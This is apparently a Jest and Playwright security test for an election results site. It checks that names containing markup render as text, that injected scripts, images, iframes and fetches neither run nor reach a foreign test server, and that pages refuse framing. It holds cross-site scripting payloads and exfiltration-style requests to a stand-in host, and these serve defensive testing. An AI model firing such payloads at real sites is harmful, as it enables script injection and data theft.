import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Browser } from 'playwright-core';
import { TestApi } from '../../fixtures/clients/running-api.js';
import { builtPages, Viewer } from '../../fixtures/clients/viewer.js';
import { contest, option, smallElection } from '../../fixtures/data/small-election.js';
import { openBrowser } from '../../fixtures/services/chromium.js';
import { LocalServer } from '../../fixtures/services/local-server.js';

const MARKUP = '<img src=x onerror="ran=1"><script>ran=1</script>';

describe('a page with untrusted text', () => {
  let api: TestApi;
  let browser: Browser;
  /** A foreign server, and the requests it receives. */
  let elsewhere: LocalServer;
  const asked: string[] = [];

  beforeAll(async () => {
    api = await TestApi.start({ pagesFolder: builtPages() });
    const options = [option('aida', { name: { en: MARKUP } }), option('bolat')];
    await api.define(smallElection({ name: { en: `Election ${MARKUP}` }, contests: [contest({ options })] }));
    elsewhere = await LocalServer.open((request, response) => {
      asked.push(request.url ?? '');
      response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
      response.end('globalThis.ran = 1');
    });
    browser = await openBrowser();
  });
  afterAll(async () => {
    await browser.close();
    await elsewhere.close();
    await api.close();
  });

  const hasRun = (viewer: Viewer) => viewer.page.evaluate<boolean>(`'ran' in globalThis`);

  it('shows markup in a name as text', async () => {
    const viewer = await Viewer.open(browser, `${api.url}/e/small/contest/race`);
    await viewer.reads(viewer.page.locator('.candidate').first(), MARKUP);
    expect(await hasRun(viewer)).toBe(false);
    expect(viewer.errors).toEqual([]);
    await viewer.close();
  });

  it.each(['/e/small', '/desk'])('neither runs nor loads what is injected into %s', async (path) => {
    const viewer = await Viewer.open(browser, api.url + path);
    const foreign = elsewhere.url;
    // Even if an attacker finds a way to insert elements, none of them acts.
    await viewer.page.evaluate(`(async () => {
      const add = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
      document.body.insertAdjacentHTML('beforeend', '<img src="/none" onerror="ran=1"><b style="color:red">x</b>');
      add('script', { textContent: 'ran=1' });
      add('script', { src: '${foreign}/script.js' });
      add('img', { src: '${foreign}/picture.png?stolen' });
      add('iframe', { src: '${foreign}/frame.html' });
      add('object', { data: '${foreign}/object.swf' });
      add('base', { href: '${foreign}/' });
      await fetch('${foreign}/stolen').catch(() => undefined);
      setTimeout("ran=1");
      location.href = 'javascript:ran=1';
      await new Promise((resolve) => setTimeout(resolve, 500));
    })()`);
    expect(await hasRun(viewer)).toBe(false);
    expect(asked).toEqual([]);
    expect(await viewer.page.evaluate<string>('document.baseURI')).toBe(viewer.page.url());
    expect(
      await viewer.page.evaluate<string>(`getComputedStyle(document.querySelector('b')).color`),
    ).not.toBe('rgb(255, 0, 0)');
    expect(viewer.errors.length).toBeGreaterThan(5);
    await viewer.close();
  });

  it.each(['/', '/desk', '/e/small'])('cannot be framed by another page: %s', async (path) => {
    const page = await browser.newPage();
    await page.setContent(`<iframe src="${api.url}${path}"></iframe>`);
    const frame = page.frames()[1];
    expect(frame?.url()).not.toBe(api.url + path);
    await page.close();
  });
});
